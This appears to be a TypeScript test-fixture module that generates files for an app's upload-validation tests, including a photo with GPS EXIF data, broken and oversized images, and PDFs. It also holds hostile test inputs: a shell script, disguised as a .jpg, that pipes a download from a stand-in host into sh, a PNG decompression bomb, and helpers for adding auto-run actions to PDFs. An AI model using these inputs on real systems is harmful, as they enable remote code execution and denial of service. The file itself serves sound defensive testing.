import { DATA_LIMITS } from "@mimamori/shared";
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";

/*
 * Real files for the upload tests, made when the tests run (issue 12 §4): nothing binary is kept in the repository.
 */

/** A 3000 × 2000 camera photo with EXIF: the camera's make and model and a GPS position (Tokyo). */
export const photoWithGps = () =>
  sharp({ create: { width: 3000, height: 2000, channels: 3, background: "#3a7f5c" } })
    .withExif({
      IFD0: { Make: "MimamoriCam", Model: "GPS-1" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "35/1 41/1 2213/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "139/1 41/1 3021/100",
      },
    })
    .jpeg()
    .toBuffer();

/** True when EXIF data points at a GPS section (IFD0 tag 0x8825, either byte order). */
export const hasGpsPointer = (exif: Buffer) =>
  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));

/** A 300 × 200 JPEG whose EXIF says "turn 90° clockwise to show" (orientation 6), as phones write portraits. */
export const sidewaysPhoto = () =>
  sharp({ create: { width: 300, height: 200, channels: 3, background: "#d04030" } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .toBuffer();

export const smallPng = () =>
  sharp({
    create: { width: 640, height: 480, channels: 4, background: { r: 20, g: 90, b: 200, alpha: 0.5 } },
  })
    .png()
    .toBuffer();

export const smallWebp = () =>
  sharp({ create: { width: 400, height: 300, channels: 3, background: "#888888" } })
    .webp()
    .toBuffer();

/** A noisy 1400 × 1000 PNG of several megabytes: more than the JSON body limit, less than the upload limit. */
export const largePng = () =>
  sharp({
    create: {
      width: 1400,
      height: 1000,
      channels: 3,
      background: "#808080",
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  })
    .png()
    .toBuffer();

/** A minimal valid one-page PDF. */
export const minimalPdf = () =>
  Buffer.from(
    [
      "%PDF-1.4",
      "1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj",
      "2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj",
      "3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj",
      "trailer <</Size 4 /Root 1 0 R>>",
      "%%EOF",
      "",
    ].join("\n"),
  );

/** A shell script, to be uploaded under a .jpg name. */
export const script = () => Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n");

/** A JPEG cut in half (a broken transfer). */
export const truncatedJpeg = async () => {
  const full = await sharp({
    create: {
      width: 800,
      height: 600,
      channels: 3,
      background: "#808080",
      noise: { type: "gaussian", mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
  return full.subarray(0, Math.floor(full.length / 2));
};

/** One byte over the upload limit, starting like a JPEG. */
export const oversized = () => {
  const b = Buffer.alloc(DATA_LIMITS.imageBytesMax + 1, 0x41);
  b.set([0xff, 0xd8, 0xff, 0xe0], 0);
  return b;
};

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const b of bytes) c = (CRC_TABLE[(c ^ b) & 0xff] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/**
 * A few hundred bytes of PNG whose header claims `side` × `side` pixels (a decompression bomb: decoding it would
 * take gigabytes).
 */
export function bombPng(side = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A one-page PDF written as text, with `extra` objects from number 4 and `catalog` added to its catalogue. */
export const textPdf = (catalog: string, extra: string[] = [], trailer = "") =>
  Buffer.from(
    [
      "%PDF-1.4",
      `1 0 obj <</Type /Catalog /Pages 2 0 R ${catalog}>> endobj`,
      "2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj",
      "3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj",
      ...extra.map((o, i) => `${i + 4} 0 obj ${o} endobj`),
      `trailer <</Size ${4 + extra.length} /Root 1 0 R ${trailer}>>`,
      "%%EOF",
      "",
    ].join("\n"),
  );

/**
 * A PDF written by pdf-lib with its objects in compressed object streams (as most PDF writers do today), after
 * `change` edits the document: what a search of the file's bytes cannot see into.
 */
export async function compressedPdf(change: (doc: PDFDocument) => void | Promise<void> = () => {}) {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]).drawText("Mimamori", { x: 20, y: 100, size: 18 });
  await change(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** An action dictionary registered in the document, for /OpenAction or a page's /AA. */
export const actionRef = (doc: PDFDocument, action: Record<string, unknown>) =>
  doc.context.register(doc.context.obj(action as Parameters<typeof doc.context.obj>[0]));
